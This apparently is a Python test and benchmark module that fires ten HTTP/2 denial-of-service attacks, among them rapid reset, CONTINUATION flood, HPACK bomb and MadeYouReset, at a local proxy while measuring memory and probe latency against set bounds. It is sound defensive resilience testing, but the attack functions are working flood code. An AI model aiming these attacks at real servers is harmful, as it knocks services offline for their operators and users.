"""The HTTP/2 attack table as code, shared by IntegrationTests/test_http2_attacks.py (which
asserts the bounds on tokengate) and bench/h2_attacks.py (which runs it against tokengate and
nginx and prints both): each attack is raw frames on one connection to an h2c listener, bounded
to a few seconds, while a second client probes the same listener every 50 ms and the proxy's RSS
(all its processes) is sampled just as often.

The bounds it is held to: RSS grows by less than 32 MB, every probe is answered in under 1 s,
and rapid reset gets fewer than 2,000 of its 20,000 requests to the upstream."""
import os
import select
import socket
import statistics
import threading
import time

from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from .h2_client import H2Connection
from .waiting import wait_for

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RST_STREAM, GOAWAY, HEADERS = 0x3, 0x7, 0x1
REFUSED_STREAM = 0x7

RSS_BOUND_MB = 32
PROBE_BOUND_S = 1.0
RAPID_RESET_PAIRS = 20_000
RAPID_RESET_UPSTREAM_BOUND = 2_000
# Every attack stops sending after this long if the proxy has not cut it by then.
SEND_FOR_S = 3.0


def tree_pids(pid):
    """`pid` and its descendants (nginx's workers under the master), from /proc."""
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        out.append(p)
        try:
            for tid in os.listdir(f"/proc/{p}/task"):
                with open(f"/proc/{p}/task/{tid}/children") as f:
                    todo += [int(c) for c in f.read().split()]
        except OSError:
            pass
    return out


def rss_kb(pid):
    """The sum of VmRSS over `pid` and its descendants."""
    total = 0
    for p in tree_pids(pid):
        try:
            with open(f"/proc/{p}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


def cpu_s(pid):
    """User + system CPU seconds of `pid` and its descendants."""
    ticks = 0
    for p in tree_pids(pid):
        try:
            with open(f"/proc/{p}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            ticks += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return ticks / os.sysconf("SC_CLK_TCK")


def literal(name, value):
    """An HPACK literal header field without indexing, new name (RFC 7541 §6.2.2): no
    dynamic-table state, so every block below decodes alike on any connection."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(path, method="GET"):
    # :method GET (static 2) or POST (static 3), :scheme http (static 7 is https; 6 is
    # http), then literals.
    return (b"\x83" if method == "POST" else b"\x82") + b"\x86" + b"\x04" + bytes([len(path)]) + path.encode() \
        + b"\x01\x09127.0.0.1"


class Attacker:
    """One raw connection: frames go out from the calling thread; a reader thread (when the
    attack reads at all) notes a GOAWAY and the close, with the time since the attack
    began."""

    def __init__(self, port, reads=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.started = time.time()
        self.goaway = None
        self.cut_at = None
        self.how = None
        self.frames = []  # (type, flags, stream, first 8 payload bytes) of what came back
        self.buf = b""
        self.closing = False
        # Set once the proxy has ended the connection (a close, or a failed send), not at a
        # GOAWAY alone: what `linger` waits for.
        self.ended = threading.Event()
        self.reader = None
        if reads:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()

    def cut(self, how):
        if self.cut_at is None:
            self.cut_at, self.how = time.time() - self.started, how
            if how != "goaway":
                self.ended.set()

    def send(self, data):
        """False once the proxy has closed the connection."""
        if self.cut_at is not None and self.how != "goaway":
            return False
        try:
            self.sock.sendall(data)
            return True
        except (OSError, socket.timeout) as e:
            self.cut(f"send: {type(e).__name__}")
            return False

    def _parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9:9 + length]
            self.frames.append((kind, flags, stream, payload[:8]))
            if kind == GOAWAY and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.cut("goaway")
            self.buf = self.buf[9 + length:]

    def _read(self):
        # select, not a socket timeout: that would also bound the sender's sendall.
        while True:
            try:
                ready, _, _ = select.select([self.sock], [], [], 0.2)
                if not ready:
                    if self.closing:
                        return
                    continue
                data = self.sock.recv(1 << 20)
            except (OSError, ValueError):
                data = b""
            if self.closing:
                return
            if not data:
                self.cut("goaway" if self.goaway is not None else "close")
                if self.how == "goaway":
                    self.how = "goaway+close"
                    self.ended.set()
                return
            self.buf += data
            self._parse()

    def linger(self, seconds):
        """Waits up to `seconds` for the proxy to close; a non-reading attack starts reading
        now (only to see the GOAWAY and the close)."""
        if self.reader is None:
            self.reader = threading.Thread(target=self._read, daemon=True)
            self.reader.start()
        self.ended.wait(seconds)

    def close(self):
        self.closing = True
        r = self.reader
        try:
            self.sock.close()
        except OSError:
            pass
        if r:
            r.join(1)

    def outcome(self):
        return {"cut": self.how, "cut_at_s": None if self.cut_at is None else round(self.cut_at, 2),
                "goaway": self.goaway}


def open_attacker(port, reads=True, settings=b""):
    a = Attacker(port, reads)
    a.send(PREFACE + frame(0x4, 0, 0, settings))
    return a


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def flood(a, one):
    """Sends `one` frame a thousand at a time for SEND_FOR_S, or until the connection ends;
    returns how many went."""
    sent, until = 0, time.time() + SEND_FOR_S
    while time.time() < until and a.send(one * 1000):
        sent += 1000
    return sent


def rapid_reset(port):
    """CVE-2023-44487: 20,000 HEADERS (END_STREAM) + RST_STREAM(CANCEL) pairs on one
    connection, in batches of 500, faster than any answer."""
    a = open_attacker(port)
    block = request_block("/echo/rapid")
    sent = 0
    for first in range(0, RAPID_RESET_PAIRS, 500):
        batch = b"".join(HeadersFrame(2 * i + 1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                         + RstStreamFrame(2 * i + 1, error_code=0x8).serialize()
                         for i in range(first, first + 500))
        if not a.send(batch):
            break
        sent += 500
    a.linger(3)
    return a, {"pairs_sent": sent}


def continuation_flood(port):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then 16 KB CONTINUATION frames of
    small literal fields that never end the block, for SEND_FOR_S."""
    a = open_attacker(port)
    a.send(HeadersFrame(1, request_block("/echo/cont")).serialize())
    piece = ContinuationFrame(1, literal("a", "b") * 3270).serialize()
    sent, until = 0, time.time() + SEND_FOR_S
    while time.time() < until and a.send(piece * 16):
        sent += 16
    a.linger(3)
    return a, {"continuations_sent": sent}


def hpack_bomb(port):
    """One 4,000-byte field put in the dynamic table, then referenced by index (one byte
    each) 16,000 times per header block: 16 KB on the wire, 64 MB decoded, on a new stream
    each time, for SEND_FOR_S."""
    a = open_attacker(port)
    # Literal with incremental indexing, new name; the value's length as an HPACK integer
    # (7-bit prefix: 127, then 3873 in 7-bit groups).
    seed = b"\x40\x06x-bomb\x7f" + bytes([(3873 & 0x7F) | 0x80, 3873 >> 7]) + b"b" * 4000
    refs = b"\xbe" * 16000  # index 62: the newest dynamic-table entry
    sid, streams, until = 1, 0, time.time() + SEND_FOR_S
    first = True
    while time.time() < until and sid < 2 ** 31 - 1:
        block = request_block("/echo/bomb") + (seed if first else b"") + refs
        chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        data = HeadersFrame(sid, chunks[0], flags=["END_STREAM"] + (["END_HEADERS"] if len(chunks) == 1 else [])).serialize()
        for j, c in enumerate(chunks[1:], 1):
            data += ContinuationFrame(sid, c, flags=["END_HEADERS"] if j == len(chunks) - 1 else []).serialize()
        if not a.send(data):
            break
        first = False
        sid += 2
        streams += 1
        # The attack's pace is part of its input (a new bomb each millisecond, for SEND_FOR_S):
        # nothing to wait for.
        time.sleep(0.001)
    a.linger(3)
    return a, {"streams_sent": streams}


def settings_flood(port):
    """SETTINGS frames (each one must be acknowledged) from a client that never reads the
    acknowledgements, for SEND_FOR_S."""
    a = open_attacker(port, reads=False)
    one = SettingsFrame(0, settings={0x2: 0}).serialize()
    sent = flood(a, one)
    a.linger(3)
    return a, {"settings_sent": sent}


def ping_flood(port):
    """PINGs (each one must be acknowledged) from a client that never reads the acks."""
    a = open_attacker(port, reads=False)
    one = PingFrame(0, opaque_data=b"12345678").serialize()
    sent = flood(a, one)
    a.linger(3)
    return a, {"pings_sent": sent}


def zero_window(port):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, then 128 streams (the concurrency limit of both
    proxies) each asking for 1 MB: the answers cannot go out; the client reads what comes and
    never opens a window."""
    a = open_attacker(port, settings=(0x4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
    a.send(b"".join(HeadersFrame(2 * i + 1, request_block("/big?size=1000000"),
                                 flags=["END_HEADERS", "END_STREAM"]).serialize() for i in range(128)))
    a.linger(SEND_FOR_S + 1)
    return a, {"streams_reset": len({f[2] for f in a.frames if f[0] == RST_STREAM})}


def many_streams(port):
    """1,000 requests opened at once, each held by the upstream for a second: past the
    proxy's concurrency limit (128 for both) they are refused, or the connection ends."""
    a = open_attacker(port)
    a.send(b"".join(HeadersFrame(2 * i + 1, request_block("/slow?delay=1"),
                                 flags=["END_HEADERS", "END_STREAM"]).serialize() for i in range(1000)))
    a.linger(SEND_FOR_S + 1)
    refused = {f[2] for f in a.frames if f[0] == RST_STREAM and int.from_bytes(f[3][:4], "big") == REFUSED_STREAM}
    answered = {f[2] for f in a.frames if f[0] == HEADERS}
    return a, {"refused": len(refused), "answered": len(answered)}


def made_you_reset(port):
    """CVE-2025-8671: requests the proxy starts on, each made a stream error by the client
    (a WINDOW_UPDATE that takes the stream's window past 2^31 - 1, RFC 9113 §6.9.1), so
    that the proxy resets the stream itself and its reset limit, which counts the client's
    RST_STREAMs, never sees it; in batches of 500, for SEND_FOR_S."""
    a = open_attacker(port)
    block = request_block("/echo/made-you-reset")
    sid, sent, until = 1, 0, time.time() + SEND_FOR_S
    while time.time() < until and sid < 2 ** 31 - 1000:
        batch = b"".join(HeadersFrame(sid + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                         + frame(0x8, 0, sid + 2 * i, (0x7FFFFFFF).to_bytes(4, "big")) for i in range(500))
        if not a.send(batch):
            break
        sid += 1000
        sent += 500
    a.linger(3)
    return a, {"streams_sent": sent}


def empty_frames(port):
    """Empty DATA frames that do not end their stream, on one open upload, for SEND_FOR_S."""
    a = open_attacker(port)
    a.send(HeadersFrame(1, request_block("/echo/empty", method="POST"), flags=["END_HEADERS"]).serialize())
    one = frame(0x0, 0, 1, b"")
    sent = flood(a, one)
    a.linger(3)
    return a, {"frames_sent": sent}


def window_update_flood(port):
    """Connection-level WINDOW_UPDATEs of 1 byte with nothing being sent, for SEND_FOR_S."""
    a = open_attacker(port)
    one = frame(0x8, 0, 0, (1).to_bytes(4, "big"))
    sent = flood(a, one)
    a.linger(3)
    return a, {"frames_sent": sent}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "zero_window": zero_window,
    "many_streams": many_streams,
    "made_you_reset": made_you_reset,
    "empty_frames": empty_frames,
    "window_update_flood": window_update_flood,
}


def probe(port, timeout=5.0):
    """One plain GET on a new h2c connection (nginx 1.22's `listen … http2` without TLS takes
    no HTTP/1.1): seconds to the whole answer, or None if none came in `timeout`."""
    started = time.time()
    try:
        with H2Connection(port, timeout=timeout) as c:
            a = c.request("GET", "/echo/probe", timeout=timeout)
            return time.time() - started if a.status == 200 else None
    except Exception:
        return None


def open_connections(port):
    """How many connections to `port` the listening process has not closed yet, whichever
    process it is: from /proc/net/tcp and tcp6, the sockets on that local port that are
    ESTABLISHED, SYN_RECV or CLOSE_WAIT (the peer has closed, the proxy not yet)."""
    held = 0
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            local, state = fields[1], fields[3]
            if int(local.rsplit(":", 1)[1], 16) == port and state in ("01", "03", "08"):
                held += 1
    return held


def attack_requests(upstream):
    """How many requests other than the probes the echo upstream (scripts/echo_upstream.py)
    has seen."""
    with upstream.lock:
        return sum(1 for r in upstream.requests if not r["path"].startswith("/echo/probe"))


def run(name, port, pid, upstream_requests, settle=1.0):
    """Runs one attack at `port` while probing it and sampling `pid`'s RSS; returns the
    figures. `upstream_requests()` counts the attack's requests the upstream has seen so far
    (not the probes': see attack_requests)."""
    for _ in range(3):
        probe(port)
    # The base is read once the proxy has let go of the warm-up probes' connections.
    wait_for(lambda: not open_connections(port), 5, interval=0.02, what=f"the proxy on {port} to close the probes")
    base = rss_kb(pid)
    peak = [base]
    latencies, failed = [], [0]
    stop = threading.Event()

    # The sampler and the prober run every 50 ms until `stop`: their pace is the measurement's
    # grain, and waiting on `stop` ends them as soon as the run is over.
    def sample():
        while not stop.is_set():
            peak[0] = max(peak[0], rss_kb(pid))
            stop.wait(0.05)

    def probes():
        while not stop.is_set():
            started = time.time()
            t = probe(port)
            if t is None:
                failed[0] += 1
                latencies.append(time.time() - started)
            else:
                latencies.append(t)
            stop.wait(max(0.0, 0.05 - (time.time() - started)))

    seen, cpu = upstream_requests(), cpu_s(pid)
    threads = [threading.Thread(target=sample, daemon=True), threading.Thread(target=probes, daemon=True)]
    for t in threads:
        t.start()
    attacker, extra = ATTACKS[name](port)
    attacker.close()
    # The window after the attack is part of the measurement: the probes and the sampler
    # go on for `settle` seconds, so a late RSS peak or a slow answer counts too. No event
    # says that a proxy has recovered; this is how long it is given to show it.
    time.sleep(settle)
    stop.set()
    for t in threads:
        t.join(10)
    out = {"attack": name, "rss_base_mb": round(base / 1024, 1), "rss_growth_mb": round((peak[0] - base) / 1024, 1),
           "rss_after_mb": round((rss_kb(pid) - base) / 1024, 1),
           "probes": len(latencies), "probes_failed": failed[0],
           "probe_max_s": round(max(latencies), 3) if latencies else None,
           "probe_median_s": round(statistics.median(latencies), 3) if latencies else None,
           "upstream_requests": upstream_requests() - seen, "cpu_s": round(cpu_s(pid) - cpu, 2)}
    out.update(attacker.outcome())
    out.update(extra)
    return out
